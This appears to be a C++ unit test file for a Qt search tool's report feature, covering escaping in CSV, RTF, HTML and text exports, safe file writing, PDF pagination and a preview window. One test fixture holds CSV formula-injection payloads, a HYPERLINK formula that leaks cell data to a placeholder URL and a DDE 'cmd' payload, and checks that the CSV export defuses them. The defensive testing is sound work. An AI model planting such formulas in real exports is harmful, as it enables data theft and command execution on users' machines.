// The report of search results: the lines made from result rows, what the report form's
// dataset keeps of them, the exports' bytes, pagination, and the preview window.
#include "app/report/ReportPreview.h"
#include "platform/Exceptions.h"
#include "tests/TestSupport.h"

#include <QAbstractButton>
#include <QApplication>
#include <QPdfWriter>
#include <QPrinter>
#include <QProcess>
#include <QTimer>

#include <gtest/gtest.h>

#include <cerrno>
#include <cstring>
#include <sys/stat.h>
#include <sys/sysmacros.h>

namespace {

std::vector<std::string> Names(const TReportDefinition& R) {
    std::vector<std::string> N;
    for (const TReportEntry& E : R.Entries)
        N.push_back(E.Name + " | " + E.FileName);
    return N;
}

TReportDefinition Collect(const std::vector<TReportRow>& Rows) {
    TfmReport Form;
    return Form.Prepare(Rows);
}

// A small report with everything an export must escape.
TReportDefinition Tricky() {
    TReportDefinition R;
    R.Entries = {{"Größe \"x\" <b>&{}", "/m/a,b\\c.txt"}, {"日本", ""}};
    return R;
}

std::string RunTool(const QString& Program, const QStringList& Args) {
    QProcess P;
    P.start(Program, Args);
    if (!P.waitForFinished(30000) || P.exitCode() != 0)
        return "<" + Program.toStdString() + " failed: " + P.readAllStandardError().toStdString() +
               ">";
    return P.readAllStandardOutput().toStdString();
}

int PdfPages(const std::string& File) {
    std::string Info = RunTool("pdfinfo", {QString::fromStdString(File)});
    size_t P = Info.find("Pages:");
    return P == std::string::npos ? -1 : std::stoi(Info.substr(P + 6));
}

} // namespace

TEST(Report, LinesQuoteTheirFields) {
    EXPECT_EQ(QuoteReportField("say \"hi\" \"\""), "say \"\"hi\"\" \"\"\"\"");
    TStringList L;
    FillReportData(L, {{"a \"b\", c", "/x, y/\"z\""}});
    EXPECT_EQ(L[0], "\"a \"\"b\"\", c\", \"/x, y/\"\"z\"\"\"");
    // Read back through the report's dataset: the quotes single again, commas and blanks kept.
    EXPECT_EQ(Names(Collect({{"a \"b\", c", "/x, y/\"z\""}})),
              std::vector<std::string>{"a \"b\", c | /x, y/\"z\""});
}

TEST(Report, KeepsEveryResultInNameOrder) {
    TReportDefinition R = Collect({{"beta", "/b"},
                                   {"README", "/d/README"},
                                   {"Alpha", "/a"},
                                   {"Readme", "/d/Readme"},
                                   {"alpha", "/a2"},
                                   {"beta", "/b"}, // the same result twice: listed once
                                   {"Ärger", "/u"}});
    EXPECT_EQ(Names(R),
              (std::vector<std::string>{"Alpha | /a", "alpha | /a2", "Ärger | /u", "beta | /b",
                                        "README | /d/README", "Readme | /d/Readme"}));
}

TEST(Report, KeepsLongPathsWhole) {
    std::string Path = "/";
    while (Path.size() < 4000)
        Path += "folder-" + std::to_string(Path.size()) + "/";
    Path += "file.txt";
    std::string Name(300, 'n');
    TReportDefinition R = Collect({{Name, Path}});
    ASSERT_EQ(R.Entries.size(), 1u);
    EXPECT_EQ(R.Entries[0].Name, Name);
    EXPECT_EQ(R.Entries[0].FileName, Path);
}

TEST(Report, ActionNeedsResultsAndNoSearch) {
    EXPECT_TRUE(ReportActionEnabled(1, false));
    EXPECT_FALSE(ReportActionEnabled(0, false));
    EXPECT_FALSE(ReportActionEnabled(5, true));
}

TEST(Report, ExportBytes) {
    const TReportDefinition R = Tricky();
    EXPECT_EQ(ExportText(R), "Report\n\n"
                             "Größe \"x\" <b>&{}  /m/a,b\\c.txt\n"
                             "日本" +
                                 std::string(16, ' ') + "\n");
    EXPECT_EQ(ExportCsv(R), "\xEF\xBB\xBF\"Name\",\"FileName\"\r\n"
                            "\"Größe \"\"x\"\" <b>&{}\",\"/m/a,b\\c.txt\"\r\n"
                            "\"日本\",\"\"\r\n");
    std::string Rtf = ExportRtf(R);
    EXPECT_EQ(Rtf.rfind("{\\rtf1\\ansi", 0), 0u);
    EXPECT_NE(Rtf.find("Gr\\u246?\\u223?e \"x\" <b>&\\{\\}\\cell /m/a,b\\\\c.txt\\cell\\row"),
              std::string::npos)
        << Rtf;
    EXPECT_NE(Rtf.find("\\u26085?\\u26412?\\cell"), std::string::npos);
    for (char C : Rtf)
        EXPECT_LT(static_cast<unsigned char>(C), 0x80);
    std::string Html = ExportHtml(R);
    EXPECT_NE(Html.find("<meta charset=\"utf-8\">"), std::string::npos);
    EXPECT_NE(Html.find("<tr><td>Größe &quot;x&quot; &lt;b&gt;&amp;{}</td>"
                        "<td>/m/a,b\\c.txt</td></tr>"),
              std::string::npos)
        << Html;

    // Bytes that are not UTF-8 and control characters do not break the documents; the controls
    // show as their pictures (a tab stays a tab in the text export), blanks stay, runs of them
    // too, and only the CSV keeps a newline (inside its quotes).
    TReportDefinition Bad;
    Bad.Entries = {{"bad\xFF\nname", "/p/a\tb  \x7F"}};
    const std::string Lf = "\xE2\x90\x8A", Tab = "\xE2\x90\x89", Del = "\xE2\x90\xA1";
    EXPECT_EQ(ExportText(Bad), "Report\n\nbad\xEF\xBF\xBD" + Lf + "name  /p/a\tb  " + Del + "\n");
    EXPECT_NE(ExportCsv(Bad).find("\r\n\"bad\xEF\xBF\xBD\nname\",\"/p/a\tb  \x7F\"\r\n"),
              std::string::npos);
    EXPECT_NE(
        ExportHtml(Bad).find("<td>bad\xEF\xBF\xBD" + Lf + "name</td><td>/p/a" + Tab + "b  " + Del),
        std::string::npos);
    EXPECT_NE(ExportHtml(Bad).find("white-space: pre-wrap"), std::string::npos);
    EXPECT_NE(ExportRtf(Bad).find("bad\\u-3?\\u9226?name\\cell /p/a\\u9225?b  \\u9249?\\cell"),
              std::string::npos)
        << ExportRtf(Bad);
    EXPECT_EQ(ReportText("a\tb\x01 \x1F"), QString::fromUtf8("a\u2409b\u2401 \u241F"));

    // Cells a spreadsheet would take for formulas are text there; the other exports stay exact.
    TReportDefinition Formulas;
    Formulas.Entries = {{"=HYPERLINK(\"http://x/\"&A1,\"Click\")", "+cmd|' /C calc'!A0"},
                        {"-2+3", "@SUM(A1)"},
                        {"\tx", "\ry"},
                        {"a=b", "/p/-x"}};
    EXPECT_EQ(ExportCsv(Formulas), "\xEF\xBB\xBF\"Name\",\"FileName\"\r\n"
                                   "\"'=HYPERLINK(\"\"http://x/\"\"&A1,\"\"Click\"\")\","
                                   "\"'+cmd|' /C calc'!A0\"\r\n"
                                   "\"'-2+3\",\"'@SUM(A1)\"\r\n"
                                   "\"'\tx\",\"'\ry\"\r\n"
                                   "\"a=b\",\"/p/-x\"\r\n");
    const std::string Text = ExportText(Formulas);
    EXPECT_NE(Text.find("\n=HYPERLINK(\"http://x/\"&A1,\"Click\")  +cmd|' /C calc'!A0\n"),
              std::string::npos)
        << Text;
}

TEST(Report, ExportsWriteRegularFilesAndNewNamesOnly) {
    TempDir Dir;
    const TReportDefinition R = Tricky();
    // A new name and an old regular file are written; a FIFO, a device or a folder never is,
    // whatever the format.
    ASSERT_TRUE(SaveReport(R, refCsv, QString::fromStdString(Dir / "new.csv")));
    EXPECT_EQ(ReadFile(Dir / "new.csv"), ExportCsv(R));
    WriteFile(Dir / "old.txt", "old");
    ASSERT_TRUE(SaveReport(R, refText, QString::fromStdString(Dir / "old.txt")));
    EXPECT_EQ(ReadFile(Dir / "old.txt"), ExportText(R));
    ASSERT_EQ(::mkfifo((Dir / "fifo").c_str(), 0666), 0);
    MakeDir(Dir / "folder");
    std::vector<std::string> Refused = {"fifo", "folder"};
    // Device nodes can be made only by root, which is how the suite runs in CI.
    if (::mknod((Dir / "null").c_str(), S_IFCHR | 0666, makedev(1, 3)) == 0)
        Refused.push_back("null");
    else
        ADD_FAILURE() << "no device node (the suite must run as root): " << std::strerror(errno);
    for (const std::string& Name : Refused)
        for (TReportExportFormat F : {refText, refCsv, refPdf}) {
            EXPECT_THROW(SaveReport(R, F, QString::fromStdString(Dir / Name)), Exception) << Name;
            struct stat St {};
            ASSERT_EQ(::lstat((Dir / Name).c_str(), &St), 0);
            EXPECT_FALSE(S_ISREG(St.st_mode)) << Name;
        }
}

TEST(Report, PaginatesOntoPdf) {
    TempDir Dir;
    TReportDefinition R;
    for (int I = 0; I < 300; ++I)
        R.Entries.push_back(
            {"file " + std::to_string(I), "/data/folder/file " + std::to_string(I)});
    ASSERT_TRUE(SaveReport(R, refPdf, QString::fromStdString(Dir / "r.pdf")));
    int Pages = PdfPages(Dir / "r.pdf");
    EXPECT_GT(Pages, 1);
    EXPECT_EQ(Pages, TReportLayout(R).PageCount());
    std::string Text = RunTool("pdftotext", {QString::fromStdString(Dir / "r.pdf"), "-"});
    EXPECT_NE(Text.find("Report"), std::string::npos);
    EXPECT_NE(Text.find("file 299"), std::string::npos);

    // An empty report prints nothing and writes no PDF.
    TReportDefinition Empty;
    EXPECT_EQ(TReportLayout(Empty).PageCount(), 0);
    QPdfWriter Writer(QString::fromStdString(Dir / "never.pdf"));
    EXPECT_EQ(PrintReport(Empty, Writer), 0);
    EXPECT_THROW(SaveReport(Empty, refPdf, QString::fromStdString(Dir / "e.pdf")), Exception);
    EXPECT_FALSE(FileExists(Dir / "e.pdf"));
    // A stopped export leaves the old file as it was.
    WriteFile(Dir / "r.csv", "old");
    WriteFile(Dir / "old.pdf", "old");
    EXPECT_FALSE(SaveReport(R, refPdf, QString::fromStdString(Dir / "old.pdf"),
                            [](int Done, int) { return Done < 1; }));
    EXPECT_EQ(ReadFile(Dir / "old.pdf"), "old");
}

TEST(Report, BandsTallerThanAPageAreSplitByLines) {
    TReportDefinition R;
    R.DetailPointSize = 48;
    R.Entries = {{"short", "x"}, {"huge", std::string(4000, 'W')}, {"after", "y"}};
    TReportLayout L(R);
    ASSERT_GE(L.PageCount(), 2);
    int Next = 0, Pages = 0;
    for (int P = 0; P < L.PageCount(); ++P) {
        bool Seen = false;
        for (const auto& S : L.Slices(P)) {
            if (S.Entry != 1) continue;
            EXPECT_EQ(S.FirstRow, Next); // rows follow on without a gap
            Next += S.Rows;
            Seen = true;
        }
        Pages += Seen;
    }
    EXPECT_GE(Pages, 2);
    EXPECT_GT(Next, 20);
    EXPECT_EQ(L.Slices(L.PageCount() - 1).back().Entry, 2);
}

TEST(Report, PreviewExportsAndPrints) {
    TempDir Dir;
    std::vector<TReportRow> Rows;
    for (int I = 0; I < 60; ++I)
        Rows.push_back({"name " + std::to_string(I), "/catalog/disk/name " + std::to_string(I)});
    Rows.push_back({"Quote \"me\"", "/q"});

    std::vector<QString> Asked, Errors;
    TReportPreviewHooks Hooks;
    Hooks.AskExportFile = [&](QWidget*, TReportExportFormat F, QString& FileName) {
        Asked.push_back(FileName);
        FileName = QString::fromStdString(Dir.Path()) + "out." + ExportFormatExtension(F);
        return true;
    };
    Hooks.AskPrinter = [&](QWidget*, QPrinter& Printer) {
        Printer.setOutputFormat(QPrinter::PdfFormat);
        Printer.setOutputFileName(QString::fromStdString(Dir / "printed.pdf"));
        return true;
    };
    Hooks.ShowError = [&](QWidget*, const QString& M) { Errors.push_back(M); };

    // The main window's road: one call, a modal window that returns when it is closed.
    bool Ran = false;
    QTimer::singleShot(0, [&] {
        auto* Preview = qobject_cast<TfmReportPreview*>(QApplication::activeModalWidget());
        ASSERT_NE(Preview, nullptr);
        Ran = true;
        EXPECT_EQ(Preview->windowTitle(), "Report");
        EXPECT_EQ(Preview->Report().Entries.size(), 61u);
        EXPECT_GT(Preview->PageCount(), 1);
        Preview->aNext->trigger();
        EXPECT_EQ(Preview->CurrentPage(), 1);
        Preview->aExport[refCsv]->trigger();
        Preview->aExport[refPdf]->trigger();
        Preview->aPrint->trigger();
        Preview->aClose->trigger();
    });
    ShowReportPreview(nullptr, Rows, Hooks);
    ASSERT_TRUE(Ran);
    EXPECT_TRUE(Errors.empty()) << Errors.front().toStdString();
    EXPECT_EQ(Asked, (std::vector<QString>{"Report.csv", "Report.pdf"}));
    std::string Csv = ReadFile(Dir / "out.csv");
    EXPECT_EQ(Csv.rfind("\xEF\xBB\xBF\"Name\",\"FileName\"\r\n\"name 0\"", 0), 0u);
    EXPECT_NE(Csv.find("\"Quote \"\"me\"\"\",\"/q\"\r\n"), std::string::npos);
    EXPECT_EQ(std::count(Csv.begin(), Csv.end(), '\n'), 62);
    EXPECT_EQ(PdfPages(Dir / "out.pdf"), PdfPages(Dir / "printed.pdf"));
    EXPECT_NE(RunTool("pdftotext", {QString::fromStdString(Dir / "out.pdf"), "-"}).find("name 59"),
              std::string::npos);

    // A file that cannot be written is reported, not hidden.
    Hooks.AskExportFile = [&](QWidget*, TReportExportFormat, QString& FileName) {
        FileName = QString::fromStdString(Dir / "no/such/folder/x.txt");
        return true;
    };
    TfmReportPreview Failing(Tricky(), Hooks);
    Failing.Export(refText);
    ASSERT_EQ(Errors.size(), 1u);
    EXPECT_TRUE(Errors[0].contains("no/such/folder")) << Errors[0].toStdString();
}
